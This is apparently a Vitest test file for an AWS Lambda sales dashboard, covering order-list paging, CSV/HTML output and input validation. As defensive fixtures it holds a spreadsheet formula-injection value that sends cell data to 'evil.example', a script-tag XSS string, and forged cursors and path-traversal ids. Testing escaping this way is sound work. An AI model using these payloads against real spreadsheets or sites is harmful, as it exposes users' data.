import { Logger } from '@aws-lambda-powertools/logger';
import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createSalesHandler } from '../../functions/sales/create-handler.js';
import { createContractStore } from '../../lib/adapters/dynamodb/contract-store.js';
import { readLedger } from '../../lib/adapters/dynamodb/ledger-store.js';
import { createOrderStore } from '../../lib/adapters/dynamodb/order-store.js';
import {
  createSalesReader,
  type OrderDetail,
  type OrderPage,
  type OrderRow,
} from '../../lib/adapters/dynamodb/sales-reader.js';
import { drawCode } from '../../lib/domain/codes/codes.js';
import type { DirectLicense } from '../../lib/domain/credits/licenses.js';
import { importOrder } from '../../lib/domain/orders/import-order.js';
import {
  type Order,
  type OrderInput,
  type OrderState,
  orderLicenseReference,
  orderState,
} from '../../lib/domain/orders/model.js';
import {
  activatedContract,
  CREDITS_PRODUCT,
  creation,
  creditsCatalog,
  registerBusiness,
} from '../support/credits.js';
import { lambdaContext } from '../support/lambda-context.js';
import { seededRandom } from '../support/random.js';
import { createTestTable, type TestTable } from '../support/table.js';

/**
 * The sales view's orders (R12) on DynamoDB Local: the list pages newest first without loss or
 * repeat, with and without a state filter, refuses cursors it did not hand out; one order shows
 * its lines' Registration Keys, who registered them, their licenses and the order's history;
 * ids are checked before any read, and a company name never becomes markup or a formula.
 */

const T0 = new Date('2026-06-01T10:00:00.000Z');
const MINUTE = 60_000;
let now = T0;
let table: TestTable;
let handler: ReturnType<typeof createSalesHandler>;
const random = seededRandom('sales-orders');

const BIZ_A = 'biz-salesordersAAAAAAAAA';
const BIZ_B = 'biz-salesordersBBBBBBBBB';
const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
const SCRIPT_NAME = '<script>alert("x")</script> & Co';

/** What each seeded order should be, newest import first at the end of the seeding. */
const seeded: { orderId: string; state: OrderState }[] = [];

function orders() {
  return createOrderStore({ client: table.client, tableName: table.tableName });
}

function input(orderId: string, lines: number, company = `Company of ${orderId}`): OrderInput {
  return {
    orderId,
    company: { name: company, country: 'DE' },
    lines: Array.from({ length: lines }, (_, i) => ({
      productCode: CREDITS_PRODUCT,
      service: i % 2 === 0 ? 'endpoint-security' : 'email-security',
      units: 10 * (i + 1),
      expiresAt: '2027-06-01T00:00:00Z',
    })),
    importedBy: 'import:test',
  };
}

/** Imports an order a minute after the previous one (the list is newest import first). */
async function imported(orderId: string, lines = 2, company?: string): Promise<Order> {
  now = new Date(now.getTime() + MINUTE);
  const result = await importOrder(input(orderId, lines, company), {
    orders: orders(),
    catalog: creditsCatalog,
    clock: { now: () => now },
    random,
  });
  return result.order;
}

/** Registers some lines of an order to a business as the registration writes them (one transaction). */
async function register(order: Order, lineNos: readonly number[], businessId: string): Promise<Order> {
  const at = new Date(now.getTime() + 1000).toISOString();
  const licenses: DirectLicense[] = order.lines
    .filter((line) => lineNos.includes(line.lineNo))
    .map((line) => ({
      reference: orderLicenseReference(order.orderId, line.lineNo),
      businessId,
      productCode: line.productCode,
      credits: line.credits,
      expiresAt: line.expiresAt,
      createdAt: at,
      activationCode: drawCode('activation-code', random),
      orderId: order.orderId,
      lineNo: line.lineNo,
      service: line.service,
      startsAt: line.startsAt,
    }));
  const next: Order = {
    ...order,
    lines: order.lines.map((line) =>
      lineNos.includes(line.lineNo)
        ? {
            ...line,
            registeredBy: businessId,
            registeredAt: at,
            licenseReference: orderLicenseReference(order.orderId, line.lineNo),
          }
        : line,
    ),
    revision: order.revision + 1,
    updatedAt: at,
  };
  const outcome = await orders().register({
    order,
    next,
    licenses,
    businessId,
    businessName: `Business ${businessId}`,
    primaryEmail: `${businessId}@example.com`,
    ledger: await readLedger(table.client, table.tableName, businessId),
    history: {
      entity: 'history',
      type: 'order-registered',
      entryId: `r${next.revision}`,
      at,
      by: `buyer:${businessId}`,
      details: { businessId, email: `${businessId}@example.com`, lines: [...lineNos], conflicts: [] },
    },
    at,
  });
  expect(outcome).toBeUndefined();
  return next;
}

function event(
  path: string,
  query: Record<string, string> = {},
  accept = 'application/json',
): APIGatewayProxyEventV2 {
  const rawQueryString = new URLSearchParams(query).toString();
  return {
    version: '2.0',
    routeKey: '$default',
    rawPath: path,
    rawQueryString,
    headers: { accept, host: 'sales.example' },
    ...(rawQueryString ? { queryStringParameters: query } : {}),
    requestContext: {
      accountId: '123456512334',
      apiId: 'sales',
      domainName: 'sales.example',
      domainPrefix: 'sales',
      http: { method: 'GET', path, protocol: 'HTTP/1.1', sourceIp: '203.0.113.9', userAgent: 'test' },
      requestId: 'r',
      routeKey: '$default',
      stage: '$default',
      time: '',
      timeEpoch: 0,
    },
    isBase64Encoded: false,
  };
}

async function get(path: string, query: Record<string, string> = {}, accept?: string) {
  const result = await handler(event(path, query, accept), lambdaContext());
  return {
    status: result.statusCode ?? 0,
    headers: (result.headers ?? {}) as Record<string, string>,
    body: result.body ?? '',
  };
}

async function page(query: Record<string, string>): Promise<OrderPage> {
  const response = await get('/orders', query);
  expect(response.status, response.body).toBe(200);
  return JSON.parse(response.body) as OrderPage;
}

/** Every page of the list, following nextCursor. */
async function everyPage(query: Record<string, string>): Promise<{ ids: string[]; pages: number }> {
  const ids: string[] = [];
  let cursor: string | undefined;
  let pages = 0;
  do {
    const p = await page({ ...query, ...(cursor ? { cursor } : {}) });
    ids.push(...p.orders.map((o) => o.orderId));
    cursor = p.nextCursor;
    pages += 1;
  } while (cursor && pages < 100);
  return { ids, pages };
}

const newestFirst = (state?: OrderState) =>
  [...seeded]
    .reverse()
    .filter((s) => !state || s.state === state)
    .map((s) => s.orderId);

beforeAll(async () => {
  table = await createTestTable(inject('dynamoEndpoint'));
  handler = createSalesHandler({
    reader: createSalesReader({ client: table.client, tableName: table.tableName }),
    catalog: creditsCatalog,
    clock: { now: () => now },
    logger: new Logger({ serviceName: 'sales', logLevel: 'SILENT' }),
  });
  await registerBusiness(table, BIZ_A);
  await registerBusiness(table, BIZ_B);
  // 23 orders; every fifth fully registered, every seventh partly: a state is sparse in the list.
  for (let n = 1; n <= 23; n++) {
    const orderId = `SO-${String(n).padStart(3, '0')}`;
    let order = await imported(orderId, 3);
    if (n % 5 === 0) order = await register(order, [1, 2, 3], BIZ_A);
    else if (n % 7 === 0) order = await register(order, [2], BIZ_B);
    seeded.push({ orderId, state: orderState(order) });
  }
  await imported('SO-formula', 1, HOSTILE_NAME);
  seeded.push({ orderId: 'SO-formula', state: 'open' });
  await imported('SO-script', 1, SCRIPT_NAME);
  seeded.push({ orderId: 'SO-script', state: 'open' });
});
afterAll(async () => {
  await table.drop();
});

describe('sales view: order list (R12)', () => {
  it('pages through every order newest first, without losing or repeating one', async () => {
    for (const limit of ['1', '4', '7', '100']) {
      const { ids } = await everyPage({ limit });
      expect(ids, `limit ${limit}`).toEqual(newestFirst());
    }
  });

  it.each(['open', 'partly-registered', 'registered'] as const)(
    'lists only the %s orders, newest first, across pages',
    async (state) => {
      const { ids } = await everyPage({ state, limit: '2' });
      expect(ids).toEqual(newestFirst(state));
      expect(ids.length).toBeGreaterThan(0);
    },
  );

  it('reads a sparse state in a few rounds, never more than the limit, and goes on where it stopped', async () => {
    // 2 of the newest 10 orders are registered: one page of 3 takes several reads (at most 5).
    table.resetCalls();
    const first = await page({ state: 'registered', limit: '3' });
    const reads = table.calls.get('QueryCommand') ?? 0;
    expect(reads).toBeGreaterThan(1);
    expect(reads).toBeLessThanOrEqual(5);
    expect(first.orders.length).toBeGreaterThan(0);
    expect(first.orders.length).toBeLessThanOrEqual(3);
    expect(first.orders.every((o) => o.state === 'registered' && o.registeredLines === 3)).toBe(true);
    const rest = await everyPage({ state: 'registered', limit: '3', cursor: first.nextCursor ?? '' });
    expect([...first.orders.map((o) => o.orderId), ...rest.ids]).toEqual(newestFirst('registered'));
  });

  it('shows each order with its state, totals and the keys of its lines', async () => {
    const { orders: rows } = await page({ limit: '100' });
    const partly = rows.find((o) => o.orderId === 'SO-007') as OrderRow;
    expect(partly).toMatchObject({
      state: 'partly-registered',
      credits: 30 + 40 + 90,
      registeredLines: 1,
      company: { name: 'Company of SO-007', country: 'DE' },
    });
    expect(partly.lines[1]).toMatchObject({
      lineNo: 2,
      registeredBy: BIZ_B,
      licenseId: 'direct~order~SO-007~2',
    });
    expect(partly.lines[0]?.registrationKey).toMatch(/^PC-\d{4}-\d{4}-\d{4}-\d{4}$/);
    expect(partly.lines[0]?.registeredBy).toBeUndefined();
  });

  it('renders the list as HTML with a state filter, links and pages', async () => {
    const response = await get('/orders', { state: 'registered', limit: '100' }, 'text/html');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/html; charset=utf-8');
    for (const id of newestFirst('registered'))
      expect(response.body).toContain(`<a class="id" href="/orders/${id}">${id}</a>`);
    expect(response.body).not.toContain('href="/orders/SO-001"');
    expect(response.body).toContain(`<a href="/businesses/${BIZ_A}">${BIZ_A}</a>`);
    expect(response.body).toMatch(/<option value="registered" selected>registered<\/option>/);
    expect(response.body).toContain('<a href="/orders" aria-current="page">Orders</a>');
    const paged = await get('/orders', { state: 'registered', limit: '2' }, 'text/html');
    expect(paged.body).toMatch(
      /href="\/orders\?state=registered&amp;limit=2&amp;cursor=[A-Za-z0-9_-]+" rel="next"/,
    );
    // The form's "any" state comes empty: no filter.
    const any = await get('/orders', { state: '', limit: '100' });
    expect((JSON.parse(any.body) as OrderPage).orders).toHaveLength(seeded.length);
  });

  it('gives a CSV of the page, one row per line with its key, and guards formulas', async () => {
    const response = await get('/orders', { format: 'csv', limit: '2' });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = response.body.trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'orderId,company,companyEmail,companyCountry,orderState,importedAt,importedBy,lineNo,productCode,service,units,credits,startsAt,expiresAt,registrationKey,registeredBy,registeredAt,licenseId',
    );
    // The two newest: SO-script and SO-formula, one line each.
    expect(lines).toHaveLength(3);
    const formula = lines.find((l) => l.startsWith('SO-formula,'));
    expect(formula).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`);
    expect(formula).toMatch(/,PC-\d{4}-\d{4}-\d{4}-\d{4},/);
    expect(response.headers['x-next-cursor']).toMatch(/^[A-Za-z0-9_-]+$/);
    const last = await get('/orders', { format: 'csv', limit: '100' });
    expect(last.headers['x-next-cursor']).toBe('');
    expect(last.body.trimEnd().split('\r\n')).toHaveLength(1 + 23 * 3 + 2);
  });

  it('escapes a company name in the list and the order page', async () => {
    for (const path of ['/orders', '/orders/SO-script']) {
      const response = await get(path, {}, 'text/html');
      expect(response.status).toBe(200);
      expect(response.body).not.toContain('<script>');
      expect(response.body).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; Co');
    }
  });
});

describe('sales view: hostile order requests', () => {
  it.each([
    ['an unknown parameter', { statee: 'open' }, /statee/],
    ['an unknown state', { state: 'lapsed' }, /state/],
    ['a limit out of range', { limit: '101' }, /limit/],
    ['a cursor that is not base64url', { cursor: 'a.b' }, /cursor/],
    ['a forged cursor', { cursor: Buffer.from('{"o":"x","s":null}').toString('base64url') }, /cursor/],
    [
      'a forged position outside the orders',
      { cursor: Buffer.from('{"o":"2026-06-01T10:00:00.000Z#../CONTRACT","s":null}').toString('base64url') },
      /cursor/,
    ],
    ['an overlong cursor', { cursor: 'A'.repeat(2000) }, /cursor/],
  ])('refuses %s with 400 before DynamoDB sees it', async (_, query, message) => {
    table.resetCalls();
    const response = await get('/orders', query as Record<string, string>);
    expect(response.status).toBe(400);
    expect(JSON.parse(response.body).message).toMatch(message);
    expect(table.calls.size).toBe(0);
  });

  it('refuses the cursor of another state, and of another list', async () => {
    const open = await page({ state: 'open', limit: '2' });
    const setups = await get('/setups', { state: 'open' });
    expect(setups.status).toBe(200);
    const queries: Record<string, string>[] = [
      { state: 'registered', cursor: open.nextCursor ?? '' },
      { cursor: open.nextCursor ?? '' },
      { cursor: Buffer.from(JSON.stringify({ q: 'x', p: {} })).toString('base64url') },
    ];
    for (const query of queries) {
      const response = await get('/orders', query);
      expect(response.status, JSON.stringify(query)).toBe(400);
      expect(JSON.parse(response.body).message).toMatch(/cursor/);
    }
  });

  it('answers 404 for an unknown order and 400 for an id that is not one, before any read', async () => {
    const missing = await get('/orders/SO-999');
    expect(missing.status).toBe(404);
    expect(JSON.parse(missing.body).message).toBe('No order SO-999');
    for (const id of [
      '%00',
      '..%2F',
      '..',
      `${'a'.repeat(200)}`,
      '%E0%A4%A',
      'SO-1%23HISTORY',
      '.hidden',
      'SO%201',
    ]) {
      table.resetCalls();
      const response = await get(`/orders/${id}`, {}, 'text/html');
      expect(response.status, id).toBe(400);
      expect(response.headers['content-type']).toBe('application/json');
      expect(JSON.parse(response.body).message).toMatch(/Invalid order id/);
      expect(table.calls.size, id).toBe(0);
    }
    expect((await get('/orders/../')).status).toBe(400);
  });
});

describe('sales view: one order (R12)', () => {
  it('shows each line with its key, registration, business and license, and the history, from one Query', async () => {
    table.resetCalls();
    const response = await get('/orders/SO-007');
    expect(response.status).toBe(200);
    // One Query of the order's partition, one BatchGet of the registering businesses.
    expect(Object.fromEntries(table.calls)).toEqual({ QueryCommand: 1, BatchGetItemCommand: 1 });
    const detail = JSON.parse(response.body) as OrderDetail;
    expect(detail.order).toMatchObject({
      orderId: 'SO-007',
      state: 'partly-registered',
      importedBy: 'import:test',
    });
    expect(detail.order.lines.map((l) => [l.lineNo, l.registeredBy ?? null, l.licenseId ?? null])).toEqual([
      [1, null, null],
      [2, BIZ_B, 'direct~order~SO-007~2'],
      [3, null, null],
    ]);
    expect(detail.businesses).toEqual([{ businessId: BIZ_B, name: `Business ${BIZ_B}` }]);
    expect(detail.history.map((h) => [h.type, h.by])).toEqual([
      ['order-imported', 'import:test'],
      ['order-registered', `buyer:${BIZ_B}`],
    ]);
  });

  it('renders the order page with the keys, the business link and the history, newest first', async () => {
    const detail = JSON.parse((await get('/orders/SO-007')).body) as OrderDetail;
    const response = await get('/orders/SO-007', {}, 'text/html');
    expect(response.status).toBe(200);
    const body = response.body;
    for (const line of detail.order.lines)
      expect(body).toContain(`<span class="id">${line.registrationKey}</span>`);
    expect(body).toContain(`<a href="/businesses/${BIZ_B}">Business ${BIZ_B}</a>`);
    expect(body).toContain('<span class="id">direct~order~SO-007~2</span>');
    expect(body).toContain('<span class="badge b-partly-registered">partly-registered</span>');
    expect(body.indexOf('Registered to business')).toBeLessThan(body.indexOf('Imported with 3 lines'));
    expect(body).toContain(`Registered to business ${BIZ_B} (${BIZ_B}@example.com): line 2`);
  });

  it('shows an unregistered order without businesses, and reads an id with a colon', async () => {
    await imported('SO:colon.1', 1);
    const response = await get(`/orders/${encodeURIComponent('SO:colon.1')}`);
    expect(response.status).toBe(200);
    const detail = JSON.parse(response.body) as OrderDetail;
    expect(detail.order.state).toBe('open');
    expect(detail.businesses).toEqual([]);
    const html = await get(`/orders/${encodeURIComponent('SO:colon.1')}`, {}, 'text/html');
    expect(html.body).toContain('<span class="muted">not registered</span>');
    expect((await get('/orders/SO:colon.1', { format: 'csv' })).status).toBe(400);
  });
});

describe('sales view: Activation Codes on licenses (R11)', () => {
  it('shows the Activation Code of each item on the contract page and on the business page', async () => {
    const stored = activatedContract('l-codes', 500, new Date('2027-06-01T00:00:00.000Z'), now, BIZ_A);
    const code = drawCode('activation-code', random);
    const withCode = { ...stored, items: stored.items.map((item) => ({ ...item, activationCode: code })) };
    await createContractStore({ client: table.client, tableName: table.tableName }).save(creation(withCode));

    const contract = await get(
      `/contracts/${encodeURIComponent(stored.contract.contractId)}`,
      {},
      'text/html',
    );
    expect(contract.status).toBe(200);
    expect(contract.body).toContain(code);
    expect(contract.body).toContain('<a href="/orders">Orders</a>');

    const business = await get(`/businesses/${BIZ_A}`, {}, 'text/html');
    expect(business.status).toBe(200);
    expect(business.body).toContain(code);
    // The order lines the business registered: each with its code and a link to its order.
    const registered = JSON.parse((await get(`/businesses/${BIZ_A}`)).body) as {
      licenses: { orderId?: string; items: { activationCode?: string }[] }[];
    };
    const fromOrders = registered.licenses.filter((l) => l.orderId);
    expect(fromOrders.length).toBeGreaterThan(0);
    for (const license of fromOrders) {
      expect(business.body).toContain(license.items[0]?.activationCode ?? 'missing');
      expect(business.body).toContain(`<a href="/orders/${license.orderId}">order ${license.orderId}</a>`);
    }
  });
});
